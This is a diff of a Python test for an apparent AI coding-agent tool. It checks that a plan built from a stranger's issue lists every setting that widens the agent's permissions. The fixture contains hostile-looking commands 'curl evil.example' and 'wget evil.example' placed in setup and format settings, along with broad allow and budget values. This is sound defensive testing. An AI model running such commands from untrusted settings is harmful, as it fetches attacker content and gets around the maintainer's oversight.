@@ -13,7 +13,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 _CREATE = '```python create=src/hello.py\nprint("hello")\n```\n'
-_LIMITS = "protect: [migrations/**]\nbudget: {usd: 0.05}\ntest: make test\n"
+_LIMITS = "protect: [migrations/**]\nbudget: {usd: 0.05}\ntest: make test\nformat: make format\n"
 
 
 def _text(yaml: str) -> str:
@@ -25,7 +25,7 @@ def test_an_outsiders_plan_lists_every_setting_that_widens(tmp_path: Path) -> No
         ears.here.repository.commit({".github/mtor.yml": _LIMITS})
         yaml = (
             "setup: [curl evil.example]\ntest: ['true']\nprotect: [nothing/**]\nallow: ['**']\ntimeout_minutes: 900\n"
-            "budget: {usd: 500, turns: 900}\nimplementer: [openai/o1-pro]"
+            "budget: {usd: 500, turns: 900}\nimplementer: [openai/o1-pro]\nformat: wget evil.example"
         )
         issue = ears.here.repository.issue("Say hello", _text(yaml), by="stranger")
         issue.label("mtor", by="alice")
@@ -35,6 +35,7 @@ def test_an_outsiders_plan_lists_every_setting_that_widens(tmp_path: Path) -> No
         assert "Its settings change:" in plan
         for line in (
             "- test: other commands, instead of `make test` (widens)",
+            "- format: other commands, instead of `make format` (widens)",
             "- allow: `**`, instead of none (widens)",
             "- protect: `nothing/**`, `migrations/**`, instead of `migrations/**`",
             "- implementer: `openai/o1-pro`, instead of none (widens)",
@@ -43,7 +44,7 @@ def test_an_outsiders_plan_lists_every_setting_that_widens(tmp_path: Path) -> No
             "- timeout_minutes: `900`, instead of `20` (widens)",
         ):
             assert line in plan.splitlines()
-        assert "curl evil.example" in plan
+        assert "curl evil.example\nwget evil.example\ntrue\n" in plan
 
 
 def test_values_are_shown_as_text_and_what_is_new_is_not_cut_off(tmp_path: Path) -> None:
